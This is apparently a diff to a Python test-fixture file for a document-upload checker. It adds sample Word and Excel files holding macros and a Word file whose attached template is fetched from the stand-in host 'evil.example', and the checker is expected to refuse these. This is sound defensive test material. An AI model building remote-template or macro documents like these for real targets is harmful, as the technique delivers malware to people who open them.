@@ -44,6 +44,19 @@ def package(*names: str) -> bytes:
     return target.getvalue()
 
 
+def fetching(relation: str) -> bytes:
+    """A document of Word's with a relation to what lies elsewhere."""
+    target = io.BytesIO()
+    with zipfile.ZipFile(target, "w") as opened:
+        opened.writestr("word/document.xml", "")
+        opened.writestr(
+            "word/_rels/settings.xml.rels",
+            f'<Relationships><Relationship Id="a" Type="http://x.example/{relation}" '
+            'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>',
+        )
+    return target.getvalue()
+
+
 def document(*, packed: bool = True, **root: bytes) -> bytes:
     """A PDF of a blank page, its objects packed, with what else its catalogue has (as in PDFs)."""
     made, target = pikepdf.new(), io.BytesIO()
@@ -113,6 +126,10 @@ FILES: Mapping[str, tuple[bytes, str, str]] = {
     "dyp.png": (picture("PNG", "I;16"), "", ""),
     "hel.svg": (_DRAWING.format("").encode(), "REF310", "refused"),
     "hel.docx": (package("word/document.xml"), "", ""),
+    "makro.docx": (package("word/document.xml", "word/vbaProject.bin"), "REF332", "macros"),
+    "makro.xlsx": (package("xl/workbook.xml", "xl/macrosheets/sheet1.xml"), "REF332", "macros"),
+    "mal.docx": (fetching("attachedTemplate"), "REF332", "template"),
+    "lenke.docx": (fetching("hyperlink"), "", ""),
     "hel.xlsx": (package("xl/workbook.xml"), "", ""),
     "tall.csv": ("år;tall\n".encode("cp1252"), "", ""),
     "utf16.csv": ("år;tall\n".encode("utf-16"), "", ""),
